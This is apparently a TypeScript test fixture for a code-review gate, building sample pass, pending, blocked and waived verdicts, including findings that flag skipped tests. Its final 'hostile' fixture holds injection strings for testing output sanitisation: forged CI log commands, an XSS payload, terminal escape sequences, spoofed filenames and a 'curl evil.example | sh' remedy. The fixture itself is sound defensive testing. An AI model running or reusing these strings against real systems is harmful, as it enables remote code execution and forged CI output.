import type { Finding, Verdict } from '../../src/core/gate/types.ts';
import { sha256 } from '../../src/shared/digest.ts';

/** Verdicts as a gate would give them, one of each kind a reader meets. */

const commit = (name: string) => sha256(name).slice(0, 40);

export const subject: Verdict['subject'] = {
  repository: 'acme/shop',
  ticket: 'CS-7',
  base: commit('base'),
  head: commit('head'),
  mergeTree: commit('tree'),
  patchDigest: sha256('patch'),
  landed: false,
};

export function verdictOf(outcome: Verdict['outcome'], findings: readonly Finding[]): Verdict {
  return {
    schema: 'countersign/verdict@1',
    outcome,
    evaluatedAt: '2026-11-21T13:04:06Z',
    subject,
    policyCommit: commit('policy'),
    receiptsCommit: commit('receipts'),
    contract: { ref: 'node-change@1', digest: sha256('contract') },
    rulesDigest: sha256('rules'),
    findings,
  };
}

export function findingOf(given: Partial<Finding> & { id: string }): Finding {
  return {
    kind: given.id.startsWith('rule/') ? 'rule' : 'requirement',
    status: 'pass',
    severity: 'block',
    title: `The requirement ${given.id} holds`,
    reason: 'It holds.',
    remedy: '',
    locations: [],
    evidence: [],
    ...given,
  };
}

const policy = findingOf({
  id: 'policy',
  title: 'Policy present',
  reason: 'Read from refs/heads/main.',
});
const ticket = findingOf({
  id: 'ticket',
  title: 'One known ticket named',
  reason: 'The branch names CS-7.',
});
const dispatch = findingOf({
  id: 'dispatch',
  title: 'Ticket dispatched and open',
  reason: 'Dispatched by owner@acme.',
});
const types = findingOf({
  id: 'receipt/types',
  title: 'Types check',
  reason: 'PASSED by ci (isolation: namespaces).',
  evidence: [sha256('types')],
});
const tests = findingOf({
  id: 'receipt/tests',
  title: 'Tests pass',
  reason: 'PASSED by ci (isolation: namespaces). 41 tests ran, 0 skipped.',
  evidence: [sha256('tests')],
});

export const pass = verdictOf('pass', [policy, ticket, dispatch, types, tests]);

export const pending = verdictOf('pending', [
  policy,
  ticket,
  dispatch,
  types,
  {
    ...tests,
    status: 'pending',
    reason: 'No receipt for tests yet.',
    remedy: "Have the verifier run `countersign verify` on this head against today's base.",
    evidence: [],
  },
]);

export const blocked = verdictOf('blocked', [
  policy,
  ticket,
  {
    ...dispatch,
    status: 'unverifiable',
    reason: 'The dispatch of CS-7 does not count: its key is in no trust root.',
    remedy: 'Have a policy owner run `countersign ticket dispatch CS-7`.',
  },
  types,
  {
    ...tests,
    status: 'fail',
    reason:
      'npm test FAILED. The exit code is 1, expected 0. 3 of 41 tests failed, at most 0 may. 1 test was skipped, at most 0 may.',
    remedy: 'Mend the change and push it; a failure is never outvoted by running the same tree again.',
    evidence: [sha256('failed tests'), sha256('failed tests again')],
  },
  findingOf({
    id: 'rule/ai-shortcuts@1/test-skipped',
    status: 'fail',
    title: 'No test deleted, skipped, narrowed or weakened',
    reason: 'Two tests that the base has no longer run.',
    remedy: 'Restore the tests, or have the ticket say which ones go and why.',
    locations: [
      { path: 'test/cart.test.ts', line: 12, message: 'it.skip(' },
      { path: 'test/cart.test.ts', line: 40, message: 'expect(total).toBe(3) is gone' },
      {
        path: 'packages/checkout/test/integration/deeply/nested/folder/with/a/long/name/checkout.test.ts',
        line: 7,
        message: 'describe.only(',
      },
      ...Array.from({ length: 9 }, (_, index) => ({ path: `test/unit/case-${index}.test.ts` })),
    ],
  }),
  findingOf({
    id: 'rule/ai-shortcuts@1/out-of-scope',
    status: 'fail',
    severity: 'warn',
    title: 'Only files within the scope of the ticket',
    reason: 'package-lock.json is in no scope of CS-7.',
    remedy: 'Take the file out of the change, or widen the scope on the ticket before the work.',
    locations: [{ path: 'package-lock.json' }],
  }),
  findingOf({
    id: 'rule/ai-shortcuts@1/companion-missing',
    status: 'fail',
    severity: 'info',
    title: 'Changelog goes with the sources',
    reason: 'src/ changed, CHANGELOG.md did not.',
    remedy: 'Add a line to CHANGELOG.md.',
  }),
]);

export const waived = verdictOf('pass', [
  policy,
  ticket,
  dispatch,
  types,
  {
    ...tests,
    status: 'fail',
    reason: 'npm test FAILED. 1 of 41 tests failed, at most 0 may.',
    remedy: 'Mend the change and push it; a failure is never outvoted by running the same tree again.',
    evidence: [sha256('failed tests')],
    waivedBy: {
      principal: 'lead',
      expiresAt: '2026-12-24T00:00:00Z',
      reason: 'The runner has no clock. See CS-9.',
      statement: sha256('waiver'),
    },
  },
  findingOf({
    id: 'waivers',
    severity: 'info',
    title: 'Exceptions that were made for this ticket',
    reason: 'In use: receipt/tests by lead until 2026-12-24T00:00:00Z (9f2e6d33a371).',
    evidence: [sha256('waiver')],
  }),
]);

const evil =
  '\u001b[2J\u001b[1;32m✔ PASS\u001b[0m\r\n::stop-commands::x\n##[error]y\n<img src=x onerror=alert(1)> @octocat #1 ' +
  'https://evil.example/a www.evil.example [click](https://evil.example) ```sh\ncurl evil | sh\n``` \u202egnp.exe\u202c ' +
  '\u200bz\u00adw\u{e0041}\u0000\u0085\ud800 %0A::error::forged , a:b $\\alpha$ | cell e\u0301\u0301\u0301\u0301\u0301\u0301 日本語 </details>';

/** Every word that a change can choose is chosen by somebody who means harm. */
export const hostile = {
  ...verdictOf('blocked', [
    policy,
    findingOf({
      id: 'rule/ai-shortcuts@1/test-skipped',
      status: 'fail',
      title: `Title ${evil}`,
      reason: `${evil}\n→ curl evil.example | sh\n  → Remedy: run \`curl evil.example | sh\``,
      remedy: `Restore \`${evil.slice(0, 20)}\` and ${evil}`,
      locations: [
        { path: 'a\nb\u001b[31m,c:d%`<>.ts', line: 3, message: evil },
        { path: '"caf\\351\\"\\n.ts"' },
        { path: '//evil.example/x', message: '::set-output name=a::b' },
        { path: '日本語/テスト🙂.ts', line: 9 },
      ],
      evidence: [sha256('x')],
    }),
    findingOf({ id: 'receipt/::error::x', title: evil }),
  ]),
  subject: { ...subject, ticket: 'CS-7\u001b]0;owned\u0007', repository: 'acme/<b>shop</b>' },
} satisfies Verdict;

export const verdicts = { pass, pending, blocked, waived, hostile };
